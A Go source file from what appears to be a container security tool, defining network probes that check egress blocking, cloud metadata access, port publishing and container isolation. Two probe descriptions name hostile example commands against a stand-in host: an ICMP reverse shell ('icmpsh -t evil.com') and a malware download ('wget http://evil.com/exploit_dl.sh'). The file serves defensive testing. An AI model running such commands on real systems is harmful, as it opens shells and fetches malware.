package probe

import (
	"fmt"
	"slices"
	"time"

	"github.com/bulwark-project/bulwark/plans"
)

// netLimit bounds one of these probes: a few containers, and a second for what
// gets no answer.
const netLimit = 30 * time.Second

// netProbes are about connections.
func netProbes() []Probe {
	return slices.Concat(egressProbes(), publishProbes(), apartProbes())
}

// network is a probe of the area D03, network segmentation and firewalling.
func network(p Probe) Probe {
	p.OWASP, p.Limit = []string{"D03"}, netLimit
	return p
}

// egressDenied and those that follow say which policies want a defence.
func egressDenied(p *plans.Policy) bool {
	return p == nil || p.Egress != nil && p.Egress.Default == "deny"
}

const (
	triesOut = "%s from a container on the default bridge and from one on a network of its own to a host outside, which lies in a network namespace of the host."
	mustOut  = "Nothing arrives at the host outside."
	showsOut = "That the rules hold for new containers and new networks, whatever becomes of the answer: arrival is counted before any rule."
	notOut   = "That a host further away is out of reach by other links or on other ports than the one tried, nor anything of containers on the host's network, macvlan or ipvlan."
)

// egressProbes are about what leaves.
func egressProbes() []Probe {
	var out []Probe
	for _, e := range []struct{ id, title, what, kind string }{
		{"egress-tcp4", "No TCP leaves a container", "A TCP connection", "tcp"},
		{"egress-udp4", "No UDP leaves a container", "A UDP packet", "udp"},
		{"egress-icmp4", "No shell over ICMP leaves a container", "An echo request, as icmpsh -t evil.com carries a shell in,", "icmp"},
		{"egress-http", "No malware is fetched from a container", "wget http://evil.com/exploit_dl.sh", "http"},
		{"egress-tcp6", "No TCP leaves a container over IPv6", "A TCP connection over IPv6", "tcp"},
		{"egress-udp6", "No UDP leaves a container over IPv6", "A UDP packet over IPv6", "udp"},
		{"egress-icmp6", "No shell over ICMP leaves a container over IPv6", "An echo request of ICMPv6", "icmp"},
	} {
		out = append(out, network(Probe{
			ID: e.id, Title: e.title, Tries: fmt.Sprintf(triesOut, e.what), Must: mustOut, Shows: showsOut, Not: notOut,
			Wanted: egressDenied, Run: leaving{e.kind, e.id[len(e.id)-1] == '6'}.run,
		}))
	}
	return append(out, metadataProbe(), allowedProbe())
}

func metadataProbe() Probe {
	return network(Probe{
		ID: "metadata", Title: "Containers cannot ask the cloud for credentials",
		Tries: "GET of 169.254.169.254 from a container on a network of its own, for which the host routes that address to the host outside.",
		Must:  mustOut,
		Shows: "That a container cannot reach the metadata service of a cloud, where it would get the host's credentials.",
		Not:   "Whether this host has such a service.", Wanted: egressDenied, Run: askMetadata,
	})
}

func allowedProbe() Probe {
	return network(Probe{
		ID: "egress-allowed", Title: "What the policy allows passes",
		Tries: "A connection that a line of egress.allow allows, if the host outside can stand for the destination.",
		Must:  "It arrives.",
		Shows: "That the rules do not deny too much.",
		Not:   "That destinations elsewhere are reachable: those are not tried.", Wanted: egressDenied, Run: tryAllowed,
	})
}

// publishProbes are about published ports.
func publishProbes() []Probe {
	return []Probe{
		network(Probe{
			ID: "published-port", Title: "A published port answers",
			Tries:  "A connection from the host, and from the host outside unless the port is on loopback, to a published port of a container.",
			Must:   "The container answers.",
			Shows:  "That what comes in by a published port may be answered although the container opens nothing outward.",
			Not:    "That a firewall before the host lets it through.",
			Wanted: func(p *plans.Policy) bool { return p == nil || p.Egress != nil }, Run: askPublished,
		}),
		network(Probe{
			ID: "published-address", Title: "A port published without an address is not open to all",
			Tries: "Publishing a port without saying on which address, on the default bridge.",
			Must:  "The daemon takes the address that the policy says; without a policy, one of loopback.",
			Shows: "That docker run -p 8080:80 does not open the port to the network by mistake.",
			Not:   "Anything of ports that are published with an address.", Wanted: bindsBridge, Run: publishOnBridge,
		}),
		network(Probe{
			ID: "published-address-networks", Title: "Nor is one on a network of its own",
			Tries: "Publishing a port without saying on which address, on a network that was just made.",
			Must:  "The daemon takes the address that the policy says for new networks; without a policy, one of loopback. Engines before 24 have no setting for it.",
			Shows: "That ports in a compose file do not open to the network by mistake.",
			Not:   "Anything of networks that were made before, or with options of their own.", Wanted: bindsNetworks, Run: publishOnNetwork,
		}),
	}
}

// apartProbes are about who is kept apart from whom.
func apartProbes() []Probe {
	return []Probe{
		network(Probe{
			ID: "icc", Title: "Containers on one network do not reach each other",
			Tries: "TCP, UDP and an echo request from one container to another on the default bridge (with egress.icc: deny also on a network of its own).",
			Must:  "The other does not answer.",
			Shows: "That a container that was broken into cannot attack its neighbours.",
			Not:   "Anything of what is below IP, such as forged ARP.", Wanted: iccDenied, Run: tryNeighbour,
		}),
		network(Probe{
			ID: "networks-apart", Title: "Networks do not reach each other",
			Tries: "TCP, UDP and an echo request from a container on one network to one on another.",
			Must:  "The other does not answer.",
			Shows: "That networks separate what is put on them.",
			Not:   "Anything of containers that are on both.", Wanted: always, Run: tryOtherNetwork,
		}),
		network(Probe{
			ID: "host-services", Title: "Containers do not reach services of the host",
			Tries: "A TCP connection from a container to a port that the host listens on, by the network's gateway and by another address of the host.",
			Must:  "There is no connection.",
			Shows: "That services of the host are no way on for a container that was broken into.",
			Not:   "Anything of services on unix sockets that are mounted into containers.",
			Wanted: func(p *plans.Policy) bool {
				return p != nil && p.Egress != nil && p.Egress.Default == "deny" && p.Egress.Host == "deny"
			}, Run: tryHost,
		}),
	}
}
